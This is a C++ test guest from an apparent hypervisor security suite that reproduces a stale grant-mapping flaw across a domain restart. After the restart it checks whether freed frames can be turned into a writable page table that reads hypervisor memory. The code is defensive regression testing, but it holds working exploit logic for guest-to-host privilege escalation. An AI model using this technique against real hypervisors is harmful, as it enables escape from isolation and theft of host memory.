// Finding 2: a grant mapping outlives the granter's memory. The granter G
// (restart policy ALWAYS, one restart) is the front-end of a RING connection
// with the mapper M (guests/attack/stale_mapper.cpp).
//
// First life: G grants M 248 of its frames writable (spread over the frames
// nothing of G maps), waits until M has mapped them all (M's back-end state
// 4), and powers off. The builder reaps G: it waits (a bounded number of
// yields) for M to unmap, but M, seeing G's home gone, stops too, holding
// every mapping. Today gnttab_destroy skips the mappings of a domain that is
// not running: G's frames are freed while M still holds references to them,
// G is restarted (its frames mostly come back to it), and when the builder
// then destroys M, M's mappings drop references (and writable type
// references) on frames the new G owns.
//
// Second life (the builder wrote moat/boot-tsc): G waits until M is gone
// (its Event capability for M disappears), then checks that nothing it owns
// was touched: every frame of its own that nothing maps can still be mapped
// (a frame whose count M's end dropped below zero cannot), and no page it
// maps writable can be pinned or linked as an L1 (one whose writable type
// reference M's end dropped can: then G has a page table it can write, and
// shows it by reading a hypervisor frame through it). After the fix the
// stopped M's mappings are revoked when G is destroyed and M's end touches
// nothing of the new G.

#include "common.hpp"

#include <rt/traps.hpp>

using namespace attack;

namespace {

constexpr uint32_t kFirstRef = 8;
constexpr unsigned kMaxRefs = 248;   // the mapper's maptrack holds 256

alignas(4096) uint8_t g_scratch[4096];

bool is_second_life() {
    char buf[32];
    return bool(rt::xs_read("moat/boot-tsc", buf, sizeof buf));
}

void first_life(const RingEnd& ring) {
    const abi::StartInfo& si = rt::start_info();
    grant::Table& gt = rt::grant_table();
    uint64_t first = rt::first_unmapped_pfn(), spares = si.nr_pages - first;
    unsigned n = spares < kMaxRefs ? unsigned(spares) : kMaxRefs;
    unsigned granted = 0;
    for (unsigned k = 0; k < n; ++k) {
        uint64_t pfn = first + k * spares / n;
        granted += gt.size() > kFirstRef + k &&
                   gt.grant_access(kFirstRef + k, uint16_t(ring.peer), uint32_t(rt::mfn_of_pfn(pfn)), false);
    }
    char path[160], value[24];
    base::snformat(value, sizeof value, "%u", granted);
    bool published = granted == n && rt::xs_write(node(path, sizeof path, ring.mine, "nr-refs"), value);
    base::snformat(value, sizeof value, "%u", kFirstRef);
    published = published && rt::xs_write(node(path, sizeof path, ring.mine, "ring-ref"), value) &&
                rt::xs_write(node(path, sizeof path, ring.mine, "state"), "3");
    check(published, "attack.stale_grant.granted", "%u of %u granted", granted, n);
    bool mapped = published && wait_number(node(path, sizeof path, ring.theirs, "state"), 4, rt::now_ns() + 60 * kSecond);
    unsigned writing = 0;
    for (unsigned k = 0; k < granted; ++k) writing += (gt.flags(kFirstRef + k) & abi::kGtfWriting) != 0;
    check(mapped && writing == granted, "attack.stale_grant.mapped_by_mapper", "%u of %u mapped writable", writing,
          granted);
    rt::printf("first life: %u of my frames mapped writable by domain %ld; powering off with them mapped\n", writing,
               ring.peer);
}

// --- second life ------------------------------------------------------------------

volatile unsigned g_faults;
uint64_t g_resume;
bool on_fault(rt::TrapFrame& f) {
    g_faults = g_faults + 1;
    f.rip = g_resume;
    return true;
}

// X (pfn, mapped writable by us at va_of_pfn(pfn)) is an L1 now: link it at
// 16 MiB, write an entry for the hypervisor's frame 0x100 (its image:
// multiboot header) through our writable mapping, and read it. Undone after.
void show_writable_page_table(uint64_t pfn, uint64_t l2, bool linked_already) {
    constexpr uint64_t kVa = 16ull << 20;
    uint64_t x = rt::mfn_of_pfn(pfn);
    uint64_t slot = (l2 << 12) | ((kVa >> 21) & 511) * 8;
    long rl = linked_already ? 0 : rt::mmu_update_one(slot, (x << 12) | rt::kPteP | rt::kPteRw | rt::kPteA);
    auto* w = reinterpret_cast<volatile uint64_t*>(rt::va_of_pfn(pfn));
    uint64_t saved = w[0];
    w[0] = (0x100ull << 12) | rt::kPteP | rt::kPteU | rt::kPteA;
    (void)rt::mmuext(abi::MmuextCmd::invlpg_local, kVa);
    rt::set_trap_handler(14, on_fault);
    g_faults = 0;
    uint64_t got = 0;
    asm volatile("lea 1f(%%rip), %%rax\n mov %%rax, %[resume]\n mov (%[p]), %[got]\n 1:"
                 : [resume] "=m"(g_resume), [got] "+r"(got)
                 : [p] "r"(kVa)
                 : "rax", "memory");
    rt::set_trap_handler(14, nullptr);
    rt::printf("evidence: frame %#lx (pfn %#lx), mapped writable here, became an L1 (link rc %ld); wrote an entry for "
               "hypervisor frame 0x100 through the writable mapping and read %s%#lx from it\n",
               x, pfn, rl, g_faults ? "nothing (fault) instead of " : "", got);
    w[0] = saved;
    (void)rt::mmuext(abi::MmuextCmd::invlpg_local, kVa);
    if (!linked_already) (void)rt::mmu_update_one(slot, 0);
}

void second_life(const RingEnd& ring) {
    bool gone = wait_cap_gone(abi::CapType::event, uint16_t(ring.peer), rt::now_ns() + 60 * kSecond);
    check(gone, "attack.stale_grant.mapper_destroyed", "domain %ld still there", ring.peer);
    const abi::StartInfo& si = rt::start_info();

    // Every frame of ours that nothing maps can be mapped (its counts are ours).
    uint64_t first = rt::first_unmapped_pfn();
    unsigned refused = 0, checked = 0;
    uint64_t first_refused = 0;
    for (uint64_t pfn = first; pfn < si.nr_pages; ++pfn, ++checked) {
        uint64_t m = rt::mfn_of_pfn(pfn);
        if (map_at(g_scratch, m, false) != 0 && !refused++) first_refused = m;
    }
    (void)restore(g_scratch);
    check(refused == 0 && checked > 100, "attack.stale_grant.own_frames_untouched",
          "%u of %u frames of ours can no longer be mapped (first %#lx): the mapper's end dropped their counts", refused,
          checked, first_refused);

    // No page we map writable can become a page table, pinned or linked.
    uint64_t tables[5];
    own_tables(tables);
    uint64_t l2_slot = (tables[2] << 12) | ((16ull << 20) >> 21 & 511) * 8;
    unsigned tried = 0, pinned = 0, linked = 0;
    bool shown = false;
    for (uint64_t pfn = 0; pfn < first; ++pfn) {
        if (is_page_table_pfn(pfn)) continue;
        uint64_t va = rt::va_of_pfn(pfn), m = rt::mfn_of_pfn(pfn);
        uint64_t e = l1e_of(va);
        if (!(e & rt::kPteP) || !(e & rt::kPteRw) || ((e & rt::kPteAddr) >> 12) != m) continue;
        ++tried;
        if (rt::mmuext(abi::MmuextCmd::pin_l1_table, m) == 0) {
            ++pinned;
            if (!shown) show_writable_page_table(pfn, tables[2], false);
            shown = true;
            (void)rt::mmuext(abi::MmuextCmd::unpin_table, m);
            continue;
        }
        if (rt::mmu_update_one(l2_slot, (m << 12) | rt::kPteP | rt::kPteRw | rt::kPteA) == 0) {
            ++linked;
            if (!shown) show_writable_page_table(pfn, tables[2], true);
            shown = true;
            (void)rt::mmu_update_one(l2_slot, 0);
        }
    }
    rt::printf("second life: %u unmapped frames checked (%u refused), %u writably mapped pages tried: %u pinned, %u "
               "linked as L1\n",
               checked, refused, tried, pinned, linked);
    check(tried > 100, "attack.stale_grant.probed", "only %u pages tried", tried);
    check(pinned == 0, "attack.stale_grant.pin_writable_mapped_refused", "%u pages mapped writable were pinned as L1s",
          pinned);
    check(linked == 0, "attack.stale_grant.link_writable_mapped_refused", "%u pages mapped writable were linked as L1s",
          linked);
    check(!shown, "attack.stale_grant.no_foreign_frame_reached", "a page table of ours was writable: see the evidence line");
}

}  // namespace

void rt::main() {
    rt::events_init();
    bool xs = bool(rt::xs_init());
    RingEnd ring;
    bool found = xs && find_backend(ring);
    bool again = found && is_second_life();
    check(found, again ? "attack.stale_grant.restarted_found_mapper" : "attack.stale_grant.found_mapper");
    if (!found) return done();
    if (again) second_life(ring);
    else first_life(ring);
    done();
}
